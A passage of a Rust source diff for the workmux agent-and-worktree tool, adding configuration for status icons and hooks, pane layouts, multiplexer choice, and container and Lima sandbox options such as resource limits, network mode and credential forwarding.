@@ -1,10 +1,14 @@
 use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
 use std::env;
 use std::fs;
 use std::path::{Path, PathBuf};
+use std::sync::OnceLock;
+use std::time::Duration;
 use tracing::debug;
 
-use crate::{cmd, git, nerdfont};
+use crate::multiplexer::AgentStatus;
+use crate::{cmd, git, nerdfont, util};
 use which::{which, which_in};
 
 /// Default script for cleaning up node_modules directories before worktree deletion.
@@ -36,6 +40,16 @@ pub struct StatusIcons {
 }
 
 impl StatusIcons {
+    /// Fill the icons that aren't overridden from a built-in theme.
+    pub fn with_theme(&self, theme: StatusIconTheme) -> Self {
+        let [working, waiting, done] = theme.icons();
+        Self {
+            working: Some(self.working.clone().unwrap_or_else(|| working.to_string())),
+            waiting: Some(self.waiting.clone().unwrap_or_else(|| waiting.to_string())),
+            done: Some(self.done.clone().unwrap_or_else(|| done.to_string())),
+        }
+    }
+
     pub fn working(&self) -> &str {
         self.working.as_deref().unwrap_or("🤖")
     }
@@ -47,6 +61,40 @@ impl StatusIcons {
     pub fn done(&self) -> &str {
         self.done.as_deref().unwrap_or("✅")
     }
+
+    /// Icon for an agent status.
+    pub fn icon(&self, status: AgentStatus) -> &str {
+        match status {
+            AgentStatus::Working => self.working(),
+            AgentStatus::Waiting => self.waiting(),
+            AgentStatus::Done => self.done(),
+        }
+    }
+}
+
+/// Built-in set of agent status icons
+#[derive(Debug, Deserialize, Serialize, Clone, Copy, Default, PartialEq)]
+#[serde(rename_all = "lowercase")]
+pub enum StatusIconTheme {
+    #[default]
+    Emoji,
+    Nerdfont,
+    Ascii,
+}
+
+impl StatusIconTheme {
+    /// Working, waiting and done icons of the theme.
+    pub fn icons(self) -> [&'static str; 3] {
+        match self {
+            StatusIconTheme::Emoji => ["🤖", "💬", "✅"],
+            StatusIconTheme::Nerdfont => [
+                "\u{f06a9}", // nf-md-robot
+                "\u{f0369}", // nf-md-message_text
+                "\u{f012c}", // nf-md-check
+            ],
+            StatusIconTheme::Ascii => ["*", "?", "+"],
+        }
+    }
 }
 
 /// Configuration for LLM-based branch name generation
@@ -83,6 +131,28 @@ pub struct DashboardConfig {
     /// Show check pass/total counts alongside check icon (default: false)
     #[serde(default)]
     pub show_check_counts: Option<bool>,
+
+    /// Enable the preview pane on the Zellij backend (default: false).
+    /// Zellij captures require spawning `dump-screen`, so this is opt-in.
+    #[serde(default)]
+    pub zellij_preview: Option<bool>,
+
+    /// Milliseconds a Zellij pane capture is reused (default: 1000)
+    #[serde(default)]
+    pub zellij_preview_cache_ms: Option<u64>,
+
+    /// Infer agent status from pane output while the dashboard is open
+    /// (default: false). Uses the agents' `status_patterns`.
+    #[serde(default)]
+    pub status_watch: Option<bool>,
+
+    /// Milliseconds between agent list refreshes (default: 2000)
+    #[serde(default)]
+    pub refresh_ms: Option<u64>,
+
+    /// Refresh less often while no agent status changes (default: false)
+    #[serde(default)]
+    pub adaptive_refresh: Option<bool>,
 }
 
 impl DashboardConfig {
@@ -107,6 +177,61 @@ impl DashboardConfig {
     pub fn show_check_counts(&self) -> bool {
         self.show_check_counts.unwrap_or(false)
     }
+
+    /// Whether the Zellij backend should capture panes for the preview.
+    /// Default: false
+    pub fn zellij_preview(&self) -> bool {
+        self.zellij_preview.unwrap_or(false)
+    }
+
+    /// How long the Zellij backend reuses a pane capture.
+    /// Default: 1s
+    pub fn zellij_preview_cache_ttl(&self) -> Duration {
+        Duration::from_millis(self.zellij_preview_cache_ms.unwrap_or(1000))
+    }
+
+    /// Whether the dashboard infers agent status from pane output.
+    /// Default: false
+    pub fn status_watch(&self) -> bool {
+        self.status_watch.unwrap_or(false)
+    }
+
+    /// Interval between agent list refreshes (at least 250ms).
+    /// Default: 2s
+    pub fn refresh_interval(&self) -> Duration {
+        Duration::from_millis(self.refresh_ms.unwrap_or(2000).max(250))
+    }
+
+    /// Whether the refresh interval backs off while statuses are unchanged.
+    /// Default: false
+    pub fn adaptive_refresh(&self) -> bool {
+        self.adaptive_refresh.unwrap_or(false)
+    }
+}
+
+/// Commands to run when an agent's status changes
+#[derive(Debug, Deserialize, Serialize, Default, Clone)]
+pub struct HooksConfig {
+    /// Shell command run when an agent starts working
+    pub on_working: Option<String>,
+
+    /// Shell command run when an agent is waiting for input
+    pub on_waiting: Option<String>,
+
+    /// Shell command run when an agent finishes
+    pub on_done: Option<String>,
+}
+
+impl HooksConfig {
+    /// Get the hook command for `status`, if one is configured.
+    pub fn for_status(&self, status: AgentStatus) -> Option<&str> {
+        match status {
+            AgentStatus::Working => self.on_working.as_deref(),
+            AgentStatus::Waiting => self.on_waiting.as_deref(),
+            AgentStatus::Done => self.on_done.as_deref(),
+        }
+        .filter(|cmd| !cmd.trim().is_empty())
+    }
 }
 
 /// Configuration for a single window within a session (session mode only)
@@ -121,6 +246,130 @@ pub struct WindowConfig {
     pub panes: Option<Vec<PaneConfig>>,
 }
 
+/// A named pane layout, selected with `workmux add --layout <name>`.
+///
+/// Each node is either a pane or a split of its `panes`, so a layout is a
+/// tree of splits.
+#[derive(Debug, Deserialize, Serialize, Clone, Default)]
+pub struct LayoutConfig {
+    /// Direction of a split's `panes`: horizontal lays them side by side,
+    /// vertical stacks them
+    #[serde(default)]
+    pub split: Option<SplitDirection>,
+
+    /// Children of a split, in order
+    #[serde(default)]
+    pub panes: Vec<LayoutConfig>,
+
+    /// Share of the parent split this node takes. Children without one
+    /// share what is left evenly.
+    #[serde(default)]
+    pub percentage: Option<u8>,
+
+    /// Command of a pane, as in `panes`
+    #[serde(default)]
+    pub command: Option<String>,
+
+    /// Whether this pane should receive focus after creation
+    #[serde(default)]
+    pub focus: bool,
+
+    /// Working directory of a pane, relative to the worktree
+    #[serde(default)]
+    pub cwd: Option<String>,
+}
+
+impl LayoutConfig {
+    /// The layout as a `panes` list: each split becomes a run of
+    /// `split_pane` calls, each taking its share of what is left.
+    pub fn to_panes(&self) -> Vec<PaneConfig> {
+        let mut panes = vec![PaneConfig::default()];
+        self.flatten_into(0, &mut panes);
+        panes
+    }
+
+    fn flatten_into(&self, pane: usize, panes: &mut Vec<PaneConfig>) {
+        let Some(direction) = &self.split else {
+            panes[pane].command = self.command.clone();
+            panes[pane].focus = self.focus;
+            panes[pane].cwd = self.cwd.clone();
+            return;
+        };
+
+        let shares = self.child_shares();
+        let mut regions = vec![pane];
+        for i in 1..self.panes.len() {
+            // The new pane holds children i.., cut from the pane holding i-1..
+            let rest: u32 = shares[i..].iter().sum();
+            let held: u32 = shares[i - 1..].iter().sum();
+            let percentage = (rest * 100 + held / 2) / held.max(1);
+            panes.push(PaneConfig {
+                split: Some(direction.clone()),
+                target: Some(*regions.last().unwrap()),
+                percentage: Some(percentage.clamp(1, 99) as u8),
+                ..PaneConfig::default()
+            });
+            regions.push(panes.len() - 1);
+        }
+        for (child, region) in self.panes.iter().zip(regions) {
+            child.flatten_into(region, panes);
+        }
+    }
+
+    /// Percentage of this split each child takes.
+    fn child_shares(&self) -> Vec<u32> {
+        let set: u32 = self
+            .panes
+            .iter()
+            .filter_map(|p| p.percentage)
+            .map(u32::from)
+            .sum();
+        let unset = self.panes.iter().filter(|p| p.percentage.is_none()).count() as u32;
+        let each = 100u32.saturating_sub(set) / unset.max(1);
+        self.panes
+            .iter()
+            .map(|p| p.percentage.map_or(each, u32::from).max(1))
+            .collect()
+    }
+}
+
+/// Per-agent overrides, keyed by agent name under `profiles`
+#[derive(Debug, Deserialize, Serialize, Default, Clone, PartialEq)]
+pub struct AgentProfileConfig {
+    /// Milliseconds to wait after a leading `!` before typing the rest
+    #[serde(default)]
+    pub bang_delay_ms: Option<u64>,
+
+    /// Milliseconds to wait between the text and the submit key
+    #[serde(default)]
+    pub submit_delay_ms: Option<u64>,
+
+    /// Key that submits the input, as a tmux key name (default: Enter)
+    #[serde(default)]
+    pub submit_key: Option<String>,
+
+    /// Send multi-line input as a bracketed paste (default: true)
+    #[serde(default)]
+    pub bracketed_paste: Option<bool>,
+
+    /// Output patterns the dashboard's status watcher uses for this agent
+    #[serde(default)]
+    pub status_patterns: Option<StatusPatterns>,
+}
+
+/// Regexes matched against an agent's latest output to infer its status.
+/// Unset entries keep the agent's built-in pattern; an empty string turns
+/// the built-in pattern off.
+#[derive(Debug, Deserialize, Serialize, Default, Clone, PartialEq)]
+pub struct StatusPatterns {
+    #[serde(default)]
+    pub working: Option<String>,
+    #[serde(default)]
+    pub waiting: Option<String>,
+    #[serde(default)]
+    pub done: Option<String>,
+}
+
 /// Configuration for the workmux tool, read from .workmux.yaml
 #[derive(Debug, Deserialize, Serialize, Default, Clone)]
 pub struct Config {
@@ -137,6 +386,10 @@ pub struct Config {
     #[serde(default)]
     pub window_prefix: Option<String>,
 
+    /// Template for window/session names (optional, defaults to "{prefix}{handle}")
+    #[serde(default)]
+    pub window_name_template: Option<String>,
+
     /// Tmux pane configuration (single window layout, mutually exclusive with `windows`)
     #[serde(default)]
     pub panes: Option<Vec<PaneConfig>>,
@@ -145,10 +398,19 @@ pub struct Config {
     #[serde(default)]
     pub windows: Option<Vec<WindowConfig>>,
 
+    /// Named pane layouts that replace `panes` when selected with `--layout`
+    #[serde(default)]
+    pub layouts: Option<BTreeMap<String, LayoutConfig>>,
+
     /// Commands to run after creating the worktree
     #[serde(default)]
     pub post_create: Option<Vec<String>>,
 
+    /// Script run once in the first agent pane of a new worktree, before the
+    /// pane's own command
+    #[serde(default)]
+    pub setup_script: Option<String>,
+
     /// Commands to run before merging (e.g., linting, tests)
     #[serde(default)]
     pub pre_merge: Option<Vec<String>>,
@@ -161,10 +423,19 @@ pub struct Config {
     #[serde(default)]
     pub agent: Option<String>,
 
+    /// Per-agent input timing and status pattern overrides, keyed by agent name
+    #[serde(default)]
+    pub profiles: Option<BTreeMap<String, AgentProfileConfig>>,
+
     /// Default merge strategy for `workmux merge`
     #[serde(default)]
     pub merge_strategy: Option<MergeStrategy>,
 
+    /// Self-hosted GitLab hosts whose name doesn't contain "gitlab",
+    /// so `list --pr` looks up merge requests with `glab` instead of `gh`
+    #[serde(default)]
+    pub gitlab_hosts: Option<Vec<String>>,
+
     /// Strategy for deriving worktree/window names from branch names
     #[serde(default)]
     pub worktree_naming: WorktreeNaming,
@@ -186,6 +457,11 @@ pub struct Config {
     #[serde(default)]
     pub status_icons: StatusIcons,
 
+    /// Built-in icon set used for status icons that aren't set in
+    /// `status_icons`. Default: emoji
+    #[serde(default)]
+    pub status_icon_theme: Option<StatusIconTheme>,
+
     /// Configuration for LLM-based branch name generation
     #[serde(default)]
     pub auto_name: Option<AutoNameConfig>,
@@ -194,6 +470,10 @@ pub struct Config {
     #[serde(default)]
     pub dashboard: DashboardConfig,
 
+    /// Commands to run on agent status changes
+    #[serde(default)]
+    pub hooks: HooksConfig,
+
     /// Whether to use nerdfont icons (None = prompt user on first run)
     #[serde(default)]
     pub nerdfont: Option<bool>,
@@ -207,13 +487,33 @@ pub struct Config {
     #[serde(default)]
     pub mode: Option<MuxMode>,
 
+    /// Force a multiplexer backend instead of auto-detecting it
+    #[serde(default)]
+    pub multiplexer: Option<MultiplexerChoice>,
+
+    /// Only cycle agents that completed within this window in `last-done` (e.g. "2h")
+    #[serde(default)]
+    pub last_done_window: Option<String>,
+
+    /// Show a desktop notification when an agent is waiting or done
+    #[serde(default)]
+    pub desktop_notifications: Option<bool>,
+
+    /// Env file in the worktree root exported before pane commands run
+    #[serde(default)]
+    pub env_file: Option<String>,
+
+    /// Seconds to wait for a new pane's shell to start. Default: 10
+    #[serde(default)]
+    pub handshake_timeout: Option<u64>,
+
     /// Container sandbox configuration
     #[serde(default)]
     pub sandbox: SandboxConfig,
 }
 
 /// Configuration for a single tmux pane
-#[derive(Debug, Deserialize, Serialize, Clone)]
+#[derive(Debug, Deserialize, Serialize, Clone, Default)]
 pub struct PaneConfig {
     /// A command to run when the pane is created. The pane will remain open
     /// with an interactive shell after the command completes. If not provided,
@@ -244,6 +544,11 @@ pub struct PaneConfig {
     /// Only used when `split` is specified.
     #[serde(default)]
     pub target: Option<usize>,
+
+    /// Working directory relative to the worktree (e.g., `apps/web`).
+    /// Lets agents in the same window work in different subdirectories.
+    #[serde(default)]
+    pub cwd: Option<String>,
 }
 
 #[derive(Debug, Deserialize, Serialize, Clone, PartialEq)]
@@ -282,6 +587,19 @@ pub enum MuxMode {
     Session,
 }
 
+/// Which multiplexer backend to use
+#[derive(Debug, Deserialize, Serialize, Clone, Copy, PartialEq, Default)]
+#[serde(rename_all = "lowercase")]
+pub enum MultiplexerChoice {
+    /// Detect from environment variables (default)
+    #[default]
+    Auto,
+    Tmux,
+    Wezterm,
+    Kitty,
+    Zellij,
+}
+
 /// Strategy for deriving worktree/window names from branch names
 #[derive(Debug, Deserialize, Serialize, Clone, Default, PartialEq)]
 #[serde(rename_all = "lowercase")]
@@ -313,6 +631,8 @@ pub enum SandboxRuntime {
     Docker,
     /// Podman
     Podman,
+    /// Whichever is installed, probing docker then podman
+    Auto,
 }
 
 impl SandboxRuntime {
@@ -332,6 +652,52 @@ impl SandboxRuntime {
         }
     }
 
+    /// Concrete runtime for `auto`: docker if it is in PATH, otherwise
+    /// podman, in the same order as [`Self::detect`]. Probed once per
+    /// process. None if neither is installed.
+    fn detect_auto() -> Option<Self> {
+        static DETECTED: OnceLock<Option<SandboxRuntime>> = OnceLock::new();
+        DETECTED
+            .get_or_init(|| {
+                let detected = if which("docker").is_ok() {
+                    Some(SandboxRuntime::Docker)
+                } else if which("podman").is_ok() {
+                    Some(SandboxRuntime::Podman)
+                } else {
+                    None
+                };
+                debug!(?detected, "auto-detected container runtime");
+                detected
+            })
+            .clone()
+    }
+
+    /// Resolve `Auto` to the installed runtime, erroring if there is none.
+    /// Docker and Podman are returned unchanged.
+    pub fn resolve(&self) -> anyhow::Result<Self> {
+        match self {
+            SandboxRuntime::Auto => Self::detect_auto().ok_or_else(|| {
+                anyhow::anyhow!(
+                    "No container runtime found: neither docker nor podman is in PATH.\n\
+                     Install one of them, or use 'sandbox.backend: lima'."
+                )
+            }),
+            other => Ok(other.clone()),
+        }
+    }
+
+    /// Executable name for this runtime. `Auto` falls back to docker when
+    /// nothing is installed, so the eventual error names a real command.
+    pub fn binary(&self) -> &'static str {
+        match self {
+            SandboxRuntime::Docker => "docker",
+            SandboxRuntime::Podman => "podman",
+            SandboxRuntime::Auto => Self::detect_auto()
+                .unwrap_or(SandboxRuntime::Docker)
+                .binary(),
+        }
+    }
+
     /// Returns the default hostname that a container guest should use to reach the host.
     ///
     /// - Docker: `host.docker.internal` (Docker Desktop built-in)
@@ -340,12 +706,40 @@ impl SandboxRuntime {
         match self {
             SandboxRuntime::Docker => "host.docker.internal",
             SandboxRuntime::Podman => "host.containers.internal",
+            SandboxRuntime::Auto => Self::detect_auto()
+                .unwrap_or(SandboxRuntime::Docker)
+                .rpc_host_address(),
         }
     }
 }
 
+/// GPU access for sandbox containers
+#[derive(Debug, Deserialize, Serialize, Clone, Copy, PartialEq, Eq, Default)]
+#[serde(rename_all = "lowercase")]
+pub enum GpuMode {
+    /// No GPU access (default)
+    #[default]
+    Off,
+    /// Expose all NVIDIA GPUs
+    All,
+}
+
+/// What to do when a locally built sandbox image is out of date with the
+/// embedded Dockerfiles
+#[derive(Debug, Deserialize, Serialize, Clone, Copy, PartialEq, Eq, Default)]
+#[serde(rename_all = "lowercase")]
+pub enum ImageCheck {
+    /// Print a warning and continue (default)
+    #[default]
+    Warn,
+    /// Refuse to start the sandbox
+    Error,
+    /// Skip the check
+    Off,
+}
+
 /// Isolation level for Lima backend
-#[derive(Debug, Deserialize, Serialize, Clone, PartialEq, Default)]
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq, Default, clap::ValueEnum)]
 #[serde(rename_all = "lowercase")]
 pub enum IsolationLevel {
     /// Single shared VM for all projects (fastest)
@@ -353,6 +747,33 @@ pub enum IsolationLevel {
     /// One VM per git repository (default, balanced)
     #[default]
     Project,
+    /// Throwaway VM per worktree, deleted when the worktree is removed
+    Worktree,
+}
+
+/// How host directories are shared into a Lima VM
+#[derive(Debug, Deserialize, Serialize, Clone, Copy, PartialEq, Eq)]
+pub enum LimaMountType {
+    /// virtio-fs (fastest; needs vz on macOS, virtiofsd on Linux)
+    #[serde(rename = "virtiofs")]
+    Virtiofs,
+    /// sshfs over the Lima SSH connection (works everywhere, slowest)
+    #[serde(rename = "reverse-sshfs")]
+    ReverseSshfs,
+    /// virtio-9p (QEMU only)
+    #[serde(rename = "9p")]
+    NineP,
+}
+
+impl LimaMountType {
+    /// Value written to `mountType` in the Lima config.
+    pub fn as_str(&self) -> &'static str {
+        match self {
+            Self::Virtiofs => "virtiofs",
+            Self::ReverseSshfs => "reverse-sshfs",
+            Self::NineP => "9p",
+        }
+    }
 }
 
 /// Which panes to sandbox
@@ -386,12 +807,14 @@ pub enum ToolchainMode {
 /// An extra mount point for the sandbox.
 ///
 /// Supports two forms:
-/// - Simple string: `"~/my-notes"` (read-only, mirrored path)
+/// - Simple string: `"~/my-notes"` (read-only, mirrored path), optionally
+///   `host:target[:ro|:rw]` like `"~/.cargo/registry:/cargo/registry:ro"`
 /// - Detailed spec: `{ host_path: "~/data", guest_path: "/mnt/data", writable: true }`
 #[derive(Debug, Deserialize, Serialize, Clone, PartialEq)]
 #[serde(untagged)]
 pub enum ExtraMount {
-    /// Simple host path (read-only, guest path mirrors host path)
+    /// Host path with optional `:target` and `:ro`/`:rw` suffixes
+    /// (read-only and mirrored by default)
     Path(String),
     /// Detailed mount specification
     Spec {
@@ -409,7 +832,7 @@ impl ExtraMount {
     /// Returns an error if host_path or guest_path is not absolute after expansion.
     pub fn resolve(&self) -> anyhow::Result<(PathBuf, PathBuf, bool)> {
         let (host_str, guest_str, writable) = match self {
-            Self::Path(p) => (p.as_str(), None, false),
+            Self::Path(p) => parse_mount_string(p)?,
             Self::Spec {
                 host_path,
                 guest_path,
@@ -444,6 +867,35 @@ impl ExtraMount {
     }
 }
 
+/// Split a `host[:target][:ro|:rw]` mount string into (host, target, writable).
+fn parse_mount_string(spec: &str) -> anyhow::Result<(&str, Option<&str>, bool)> {
+    let mode = |s: &str| match s {
+        "ro" => Some(false),
+        "rw" => Some(true),
+        _ => None,
+    };
+    let parts: Vec<&str> = spec.split(':').collect();
+    match parts.as_slice() {
+        [host] => Ok((host, None, false)),
+        [host, last] => match mode(last) {
+            Some(writable) => Ok((host, None, writable)),
+            None => Ok((host, Some(last), false)),
+        },
+        [host, target, last] => match mode(last) {
+            Some(writable) => Ok((host, Some(target), writable)),
+            None => anyhow::bail!(
+                "extra_mounts: unknown mode '{}' in '{}' (expected 'ro' or 'rw')",
+                last,
+                spec
+            ),
+        },
+        _ => anyhow::bail!(
+            "extra_mounts: invalid mount '{}' (expected host[:target][:ro|:rw])",
+            spec
+        ),
+    }
+}
+
 /// Expand `~` or `~/...` to the user's home directory.
 fn expand_tilde(path: &str) -> PathBuf {
     if let Some(rest) = path.strip_prefix("~/") {
@@ -493,6 +945,16 @@ pub struct LimaConfig {
     /// Custom `provision` script still runs if specified.
     #[serde(default)]
     pub skip_default_provision: Option<bool>,
+
+    /// How host directories are mounted into the VM.
+    /// Default: virtiofs on macOS, Lima's own default elsewhere.
+    #[serde(default)]
+    pub mount_type: Option<LimaMountType>,
+
+    /// Stop the VM shortly after the agent exits, unless another agent is
+    /// still using it. Default: false for `shared` isolation, true otherwise
+    #[serde(default)]
+    pub stop_vm_on_exit: Option<bool>,
 }
 
 impl LimaConfig {
@@ -520,6 +982,11 @@ impl LimaConfig {
         self.skip_default_provision.unwrap_or(false)
     }
 
+    pub fn stop_vm_on_exit(&self, isolation: &IsolationLevel) -> bool {
+        self.stop_vm_on_exit
+            .unwrap_or(*isolation != IsolationLevel::Shared)
+    }
+
     /// Merge: project overrides global, per-field.
     fn merge(global: Self, project: Self) -> Self {
         Self {
@@ -532,6 +999,8 @@ impl LimaConfig {
             skip_default_provision: project
                 .skip_default_provision
                 .or(global.skip_default_provision),
+            mount_type: project.mount_type.or(global.mount_type),
+            stop_vm_on_exit: project.stop_vm_on_exit.or(global.stop_vm_on_exit),
         }
     }
 }
@@ -543,19 +1012,118 @@ pub struct ContainerConfig {
     /// Container runtime. Auto-detected from PATH if not set.
     #[serde(default)]
     pub runtime: Option<SandboxRuntime>,
+
+    /// CPU limit passed to `--cpus` (e.g. "2" or "1.5"). Unlimited if not set.
+    #[serde(default)]
+    pub cpus: Option<String>,
+
+    /// Memory limit passed to `--memory` (e.g. "512m" or "4g"). Unlimited if not set.
+    #[serde(default)]
+    pub memory: Option<String>,
 }
 
 impl ContainerConfig {
-    pub fn runtime(&self) -> SandboxRuntime {
-        self.runtime.clone().unwrap_or_else(SandboxRuntime::detect)
+    /// Concrete runtime to use, never `Auto`. Errors when `auto` finds no
+    /// runtime installed; an unset runtime falls back to docker instead.
+    pub fn runtime(&self) -> anyhow::Result<SandboxRuntime> {
+        match &self.runtime {
+            Some(runtime) => runtime.resolve(),
+            None => Ok(SandboxRuntime::detect()),
+        }
+    }
+
+    /// Validate the resource limits so a typo fails at config load rather
+    /// than when the container runtime rejects the flag.
+    pub fn validate(&self) -> anyhow::Result<()> {
+        if let Some(cpus) = &self.cpus
+            && !cpus.parse::<f64>().is_ok_and(|n| n.is_finite() && n > 0.0)
+        {
+            anyhow::bail!(
+                "Invalid sandbox.container.cpus '{}': expected a positive number like 2 or 1.5",
+                cpus
+            );
+        }
+        if let Some(memory) = &self.memory
+            && !is_valid_memory_limit(memory)
+        {
+            anyhow::bail!(
+                "Invalid sandbox.container.memory '{}': expected a size like 512m, 1.5g or 4gb",
+                memory
+            );
+        }
+        Ok(())
     }
 
     /// Merge: project overrides global, per-field.
     fn merge(global: Self, project: Self) -> Self {
         Self {
             runtime: project.runtime.or(global.runtime),
+            cpus: project.cpus.or(global.cpus),
+            memory: project.memory.or(global.memory),
+        }
+    }
+}
+
+/// Host variables a glob in `env_passthrough` never forwards, since the
+/// guest sets its own. Listing one by exact name still forwards it.
+const ENV_PASSTHROUGH_GLOB_DENYLIST: &[&str] = &["PATH", "HOME", "USER", "SHELL"];
+
+/// Match `env_passthrough` entries against host variable names. Entries with
+/// glob metacharacters match every variable they cover (sorted by name),
+/// except those in [`ENV_PASSTHROUGH_GLOB_DENYLIST`]; plain entries match
+/// exactly. Each variable appears once.
+fn expand_env_passthrough(
+    entries: &[&str],
+    host_vars: impl IntoIterator<Item = String>,
+) -> Vec<String> {
+    let mut host_vars: Vec<String> = host_vars.into_iter().collect();
+    host_vars.sort();
+
+    let mut result: Vec<String> = Vec::new();
+    for entry in entries {
+        if entry.contains(['*', '?', '[']) {
+            let pattern = match glob::Pattern::new(entry) {
+                Ok(pattern) => pattern,
+                Err(e) => {
+                    tracing::warn!(pattern = entry, error = %e, "invalid env_passthrough pattern");
+                    continue;
+                }
+            };
+            for name in &host_vars {
+                if pattern.matches(name)
+                    && !ENV_PASSTHROUGH_GLOB_DENYLIST.contains(&name.as_str())
+                    && !result.contains(name)
+                {
+                    result.push(name.clone());
+                }
+            }
+        } else if host_vars.iter().any(|name| name == entry)
+            && !result.iter().any(|name| name == entry)
+        {
+            result.push(entry.to_string());
         }
     }
+    result
+}
+
+/// Check a docker/podman memory size the way the runtimes parse it: a
+/// positive number, optionally with decimals, then an optional unit such as
+/// `k`, `m`, `g`, `t`, `gb` or `GiB`.
+fn is_valid_memory_limit(value: &str) -> bool {
+    let number_len = value
+        .find(|c: char| !c.is_ascii_digit() && c != '.')
+        .unwrap_or(value.len());
+    let (number, unit) = value.split_at(number_len);
+    let unit = unit.strip_prefix(' ').unwrap_or(unit).to_ascii_lowercase();
+    let unit = unit.strip_suffix('b').unwrap_or(&unit);
+    let unit = unit.strip_suffix('i').unwrap_or(unit);
+    let valid_unit = unit.is_empty() || (unit.len() == 1 && "kmgtp".contains(unit));
+    let valid_number = number
+        .split_once('.')
+        .map_or(!number.is_empty(), |(whole, frac)| {
+            !whole.is_empty() && !frac.is_empty() && !frac.contains('.')
+        });
+    valid_unit && valid_number && number.parse::<f64>().is_ok_and(|n| n > 0.0)
 }
 
 /// Network restriction policy for sandboxed containers.
@@ -586,6 +1154,11 @@ pub struct NetworkConfig {
     /// The host RPC endpoint is always allowed regardless of this list.
     #[serde(default)]
     pub allowed_domains: Option<Vec<String>>,
+
+    /// Container network to attach to: "none", "host", or a named network.
+    /// Default: the runtime's default bridge.
+    #[serde(default)]
+    pub mode: Option<String>,
 }
 
 impl NetworkConfig {
@@ -599,11 +1172,26 @@ impl NetworkConfig {
         self.allowed_domains.as_deref().unwrap_or(&[])
     }
 
-    /// Validate all domain entries. Called at config load time.
+    /// Network mode, if set to something other than the default.
+    pub fn mode(&self) -> Option<&str> {
+        self.mode.as_deref().filter(|m| !m.trim().is_empty())
+    }
+
+    /// Validate all domain entries and the network mode. Called at config load time.
     pub fn validate(&self) -> anyhow::Result<()> {
         for domain in self.allowed_domains() {
             validate_domain(domain)?;
         }
+        // Deny mode reaches allowed domains through a host proxy and installs
+        // iptables rules in the container's own network namespace.
+        if self.policy() == NetworkPolicy::Deny
+            && let Some(mode @ ("none" | "host")) = self.mode()
+        {
+            anyhow::bail!(
+                "sandbox.network.mode '{}' cannot be combined with policy 'deny'",
+                mode
+            );
+        }
         Ok(())
     }
 }
@@ -650,7 +1238,8 @@ pub struct SandboxConfig {
     #[serde(default)]
     pub image: Option<String>,
 
-    /// Environment variables to pass to sandbox.
+    /// Environment variables to pass to sandbox. Entries may be glob
+    /// patterns (e.g. `AWS_*`) matched against the host environment.
     /// Default: []
     #[serde(default)]
     pub env_passthrough: Option<Vec<String>>,
@@ -686,6 +1275,34 @@ pub struct SandboxConfig {
     #[serde(default)]
     pub agent_config_dir: Option<String>,
 
+    /// GPU access for containers (container backend only). Default: off
+    #[serde(default)]
+    pub gpu: Option<GpuMode>,
+
+    /// Seconds between heartbeats the guest agent sends to the supervisor.
+    /// 0 disables heartbeats. Default: 30
+    #[serde(default)]
+    pub heartbeat_interval: Option<u64>,
+
+    /// Check that an image built with `workmux sandbox build` matches the
+    /// current Dockerfiles before starting a container. Default: warn
+    #[serde(default)]
+    pub image_check: Option<ImageCheck>,
+
+    /// Seconds a host-exec command may run before its process group is
+    /// killed. 0 disables the timeout. Default: 0
+    #[serde(default)]
+    pub host_exec_timeout: Option<u64>,
+
+    /// Guest command that must exit 0 before the agent command starts,
+    /// e.g. `which claude`. Default: none
+    #[serde(default)]
+    pub ready_check: Option<String>,
+
+    /// Seconds to keep retrying `ready_check` before giving up. Default: 60
+    #[serde(default)]
+    pub ready_timeout: Option<u64>,
+
     /// Lima-specific configuration
     #[serde(default)]
     pub lima: LimaConfig,
@@ -703,6 +1320,11 @@ pub struct SandboxConfig {
     /// When true, falls back to unsandboxed execution with a warning.
     #[serde(default)]
     pub dangerously_allow_unsandboxed_host_exec: Option<bool>,
+
+    /// Answer git credential requests from the guest using the host's
+    /// `git credential fill`, so agents can push over HTTPS. Default: true
+    #[serde(default)]
+    pub git_credentials: Option<bool>,
 }
 
 impl SandboxConfig {
@@ -714,7 +1336,7 @@ impl SandboxConfig {
         self.backend.clone().unwrap_or_default()
     }
 
-    pub fn runtime(&self) -> SandboxRuntime {
+    pub fn runtime(&self) -> anyhow::Result<SandboxRuntime> {
         self.container.runtime()
     }
 
@@ -740,11 +1362,19 @@ impl SandboxConfig {
             .unwrap_or_default()
     }
 
+    /// Names of host environment variables to forward into the sandbox, with
+    /// glob patterns in `env_passthrough` expanded. Unset variables are omitted.
+    pub fn passthrough_env_vars(&self) -> Vec<String> {
+        let host_vars = env::vars_os().filter_map(|(name, _)| name.into_string().ok());
+        expand_env_passthrough(&self.env_passthrough(), host_vars)
+    }
+
     /// Get the RPC host address, using config override or runtime default.
-    pub fn resolved_rpc_host(&self) -> String {
-        self.rpc_host
-            .clone()
-            .unwrap_or_else(|| self.runtime().rpc_host_address().to_string())
+    pub fn resolved_rpc_host(&self) -> anyhow::Result<String> {
+        match &self.rpc_host {
+            Some(host) => Ok(host.clone()),
+            None => Ok(self.runtime()?.rpc_host_address().to_string()),
+        }
     }
 
     pub fn toolchain(&self) -> ToolchainMode {
@@ -755,6 +1385,35 @@ impl SandboxConfig {
         self.host_commands.as_deref().unwrap_or(&[])
     }
 
+    pub fn gpu(&self) -> GpuMode {
+        self.gpu.unwrap_or_default()
+    }
+
+    pub fn image_check(&self) -> ImageCheck {
+        self.image_check.unwrap_or_default()
+    }
+
+    pub fn heartbeat_interval(&self) -> u64 {
+        self.heartbeat_interval.unwrap_or(30)
+    }
+
+    /// Timeout for host-exec commands, or None when disabled.
+    pub fn host_exec_timeout(&self) -> Option<std::time::Duration> {
+        self.host_exec_timeout
+            .filter(|&secs| secs > 0)
+            .map(std::time::Duration::from_secs)
+    }
+
+    pub fn ready_check(&self) -> Option<&str> {
+        self.ready_check
+            .as_deref()
+            .filter(|check| !check.trim().is_empty())
+    }
+
+    pub fn ready_timeout(&self) -> std::time::Duration {
+        std::time::Duration::from_secs(self.ready_timeout.unwrap_or(60))
+    }
+
     pub fn extra_mounts(&self) -> &[ExtraMount] {
         self.extra_mounts.as_deref().unwrap_or(&[])
     }
@@ -764,6 +1423,10 @@ impl SandboxConfig {
             .unwrap_or(false)
     }
 
+    pub fn git_credentials(&self) -> bool {
+        self.git_credentials.unwrap_or(true)
+    }
+
     /// Returns true if network policy is deny (restrictions active).
     pub fn network_policy_is_deny(&self) -> bool {
         self.network.policy() == NetworkPolicy::Deny
@@ -802,10 +1465,40 @@ pub struct ConfigLocation {
     pub rel_dir: PathBuf,
 }
 
-/// Find the nearest .workmux.yaml by walking up from start_dir to repo root.
+/// Project config file names, in lookup order.
